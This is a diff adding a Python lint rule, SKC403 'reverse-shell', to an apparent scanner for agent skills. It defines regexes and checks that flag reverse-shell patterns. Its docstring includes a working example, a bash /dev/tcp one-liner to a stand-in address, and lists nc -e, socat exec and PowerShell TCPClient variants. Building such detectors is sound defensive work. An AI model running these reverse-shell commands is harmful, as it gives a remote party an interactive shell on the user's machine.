@@ -1,0 +1,98 @@
+"""SKC403 reverse-shell: A script connects a shell to a remote host.
+
+## What it does
+Finds the classic reverse-shell shapes: `bash -i >& /dev/tcp/HOST/PORT 0>&1`,
+`nc -e /bin/sh`, `ncat --exec`, `socat … exec:`, a `mkfifo` pipe through `nc` into a
+shell, Python that connects a socket and then `os.dup2`s it or spawns a shell
+(`pty.spawn`, `subprocess` with the socket as stdin), Node `net` sockets piped into a
+spawned shell, and PowerShell `TCPClient` loops that `Invoke-Expression` what they read.
+
+## Why is this bad?
+It hands an interactive shell on the user's machine, with the agent's permissions, to
+whoever listens at the other end. No skill needs this.
+
+## Example
+```bash
+bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
+```
+
+## Use instead
+```bash
+# Nothing: remove it. For remote work use ssh to a host the user configured.
+```
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from skcc.analyzers.rules._scan import once, report, units
+from skcc.diagnostics import Confidence, Diagnostic, Severity
+from skcc.rules import Rule
+
+RULE = Rule(
+    code="SKC403",
+    name="reverse-shell",
+    severity=Severity.ERROR,
+    summary="A script connects a shell to a remote host.",
+    confidence=Confidence.HIGH,
+    cwe=506,
+)
+HELP = "remove it; a skill never needs to give a remote host a shell on the user's machine"
+SHELL_PATH = re.compile(r"/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\b|powershell|\bpty\.spawn|"
+                        r"['\"](ba|z)?sh['\"]")
+PY_SOCKET = re.compile(r"socket\.socket\(|create_connection\(|\.connect\(\s*\(")
+PY_REDIRECT = re.compile(r"os\.dup2\(|pty\.spawn\(|stdin\s*=\s*\w*\.?(fileno|makefile)|"
+                         r"stdin\s*=\s*s\b|stdout\s*=\s*s\b")
+JS_SOCKET = re.compile(r"net\.(connect|createConnection|Socket)\b|new\s+net\.Socket|"
+                       r"\btls\.connect\b")
+JS_SHELL = re.compile(r"(spawn|exec)\w*\(\s*['\"`](/bin/)?(ba|z)?sh|(spawn|exec)\w*\(\s*['\"`]"
+                      r"(cmd\.exe|powershell)")
+PS_SHELL = re.compile(r"Net\.Sockets\.TCPClient[\s\S]{0,600}?(iex|invoke-expression)\b", re.I)
+
+
+def check(skill, context) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
+    yield from once(_check(skill))
+
+
+def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
+    for facts in units(skill):
+        unit = facts.unit
+        for command in facts.commands:
+            program, args, text = command.program, command.args, command.text
+            if re.search(r"/dev/(tcp|udp)/", text):
+                yield report(RULE, unit, command.line, "the shell's input or output is "
+                             "redirected to a /dev/tcp socket", HELP)
+            elif program in ("nc", "ncat", "netcat", "nc.traditional") and any(
+                    a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args):
+                yield report(RULE, unit, command.line, f"`{program}` runs a program for the "
+                             "remote end", HELP)
+            elif program == "socat" and any(re.match(r"(exec|system):", a, re.I)
+                                            for a in args):
+                yield report(RULE, unit, command.line, "`socat` connects a program to a "
+                             "network address", HELP)
+            elif program in ("nc", "ncat", "netcat", "telnet") and \
+                    any(c.program in ("sh", "bash", "zsh") for c in facts.pipeline(command)):
+                yield report(RULE, unit, command.line, f"`{program}` output is fed to a "
+                             "shell", HELP)
+        for access in facts.accesses:
+            if re.match(r"/dev/(tcp|udp)/", access.target):
+                yield report(RULE, unit, access.line, "a redirection goes to a /dev/tcp "
+                             "socket", HELP)
+        calls = "\n".join(c.text for c in facts.calls)
+        if PY_SOCKET.search(calls) and PY_REDIRECT.search(calls) and SHELL_PATH.search(
+                calls + unit.text):
+            line = next(c.line for c in facts.calls if PY_SOCKET.search(c.text))
+            yield report(RULE, unit, line, "a socket is connected and a shell is attached "
+                         "to it", HELP)
+        elif JS_SOCKET.search(calls) and JS_SHELL.search(calls):
+            line = next(c.line for c in facts.calls if JS_SOCKET.search(c.text))
+            yield report(RULE, unit, line, "a network socket is connected to a spawned "
+                         "shell", HELP)
+        if unit.language in ("powershell", "bash", "batch"):
+            m = PS_SHELL.search(unit.text)
+            if m:
+                line = unit.first_line + unit.text.count("\n", 0, m.start())
+                yield report(RULE, unit, line, "a TCP client runs what it receives with "
+                             "Invoke-Expression", HELP)
